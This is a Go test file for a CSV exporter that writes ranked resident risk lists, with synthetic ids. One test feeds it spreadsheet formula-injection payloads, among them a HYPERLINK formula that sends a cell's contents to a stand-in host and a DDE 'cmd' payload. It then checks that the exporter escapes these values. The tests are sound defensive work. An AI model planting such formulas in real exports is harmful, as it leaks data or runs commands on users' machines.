package listcsv

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"riskstrat/features/source"
	"riskstrat/pipeline/part"
)

// night is 20 November 2026.
const night source.Day = 20_777

func example() (*part.Part, *part.List) {
	p := &part.Part{AsOf: night, Practice: "A1", PCN: "U1", Lists: []part.List{{Name: "rising_need", Title: "Rising need", ValidUntil: night + 7, Rows: []part.Row{
		{Rank: 1, Resident: "aa", ChanceIn100: 40, Tier: "high", ReviewFirst: true, Reasons: []string{"6 A&E attendances, 1 by ambulance", "b", "c", "never a fourth"}},
		{Rank: 2, Resident: "bb"},
	}}}}
	return p, &p.Lists[0]
}

func TestWrite(t *testing.T) {
	p, l := example()
	header := "list,night,practice,pcn,rank,resident_id,chance_in_100,tier,review_first,reason_1,reason_2,reason_3,valid_until\r\n"
	first := "rising_need,2026-11-20,A1,U1,1,aa,40,high,yes,\"6 A&E attendances, 1 by ambulance\",b,c,2026-11-27\r\n"
	second := "rising_need,2026-11-20,A1,U1,2,bb,,,no,,,,2026-11-27\r\n"
	for _, c := range []struct {
		local map[string]string
		want  string
	}{
		{nil, header + first + second},
		{map[string]string{"bb": "SYN-7"}, "local_id," + header + "," + first + "SYN-7," + second},
		{map[string]string{}, "local_id," + header + "," + first + "," + second},
	} {
		var b bytes.Buffer
		if err := Write(&b, Of(p, l), c.local); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(c.want, b.String()); diff != "" {
			t.Errorf("with local ids %v: %s", c.local, diff)
		}
	}
}

// No cell starts with what makes a spreadsheet run it, a local id's neither; and each can be had back.
func TestNothingRuns(t *testing.T) {
	for _, hostile := range []string{`=HYPERLINK("http://x.invalid/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\n=1", "'=1"} {
		p, l := example()
		l.Name, l.Rows = hostile, []part.Row{{Rank: 1, Resident: hostile, Tier: hostile, Reasons: []string{hostile, hostile, hostile}}}
		var b bytes.Buffer
		if err := Write(&b, Of(p, l), map[string]string{hostile: hostile}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: have %d rows, %v", hostile, len(rows), err)
		}
		for i, cell := range rows[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("%q: cell %s would be run", hostile, rows[0][i])
			}
		}
		if rows[1][0] != "'"+hostile {
			t.Errorf("have the local id %q, want it behind an apostrophe", rows[1][0])
		}
	}
}
